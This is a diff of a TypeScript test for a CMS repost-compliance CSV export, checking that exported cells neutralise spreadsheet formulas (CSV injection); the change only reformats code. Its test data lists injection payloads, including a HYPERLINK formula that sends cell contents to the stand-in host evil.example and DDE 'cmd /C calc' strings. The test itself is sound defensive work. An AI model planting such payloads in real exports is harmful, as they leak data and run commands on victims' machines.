@@ -7,7 +7,14 @@ import { startTestServer, type TestServer } from '../support/payload'
 /** CSV exports neutralise spreadsheet formulas (=, +, -, @, tab, CR) in text cells: CSV injection. */
 
 let server: TestServer
-const evilNames = ['=HYPERLINK("https://evil.example/?x="&A1,"点击查看")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1']
+const evilNames = [
+  '=HYPERLINK("https://evil.example/?x="&A1,"点击查看")',
+  "+cmd|' /C calc'!A0",
+  '-2+3',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+]
 
 beforeAll(async () => {
   server = await startTestServer()
@@ -34,13 +41,24 @@ describe('the repost compliance CSV over HTTP', () => {
       await payload.create({
         collection: 'reposts',
         overrideAccess: true,
-        data: { title: `转载${n}`, originalCollection: 'articles', originalId: String(n), sourceSite: source.id, targetSite: target.id, mode: 'review', status: 'submitted', dueAt: new Date(Date.now() - 3600_000).toISOString() } as never,
+        data: {
+          title: `转载${n}`,
+          originalCollection: 'articles',
+          originalId: String(n),
+          sourceSite: source.id,
+          targetSite: target.id,
+          mode: 'review',
+          status: 'submitted',
+          dueAt: new Date(Date.now() - 3600_000).toISOString(),
+        } as never,
       })
     }
     const sup = await clientAs(server.url, supervisor)
     const from = chinaDay(Date.now() - 3 * 86400_000)
     const to = chinaDay(Date.now() + 3 * 86400_000)
-    const response = await fetch(`${server.url}/api/reposts/compliance?format=csv&from=${from}&to=${to}`, { headers: { Authorization: `JWT ${sup.token}` } })
+    const response = await fetch(`${server.url}/api/reposts/compliance?format=csv&from=${from}&to=${to}`, {
+      headers: { Authorization: `JWT ${sup.token}` },
+    })
     expect(response.status).toBe(200)
     const csv = await response.text()
     // Each cell, after CSV unquoting, must not begin with a formula character.
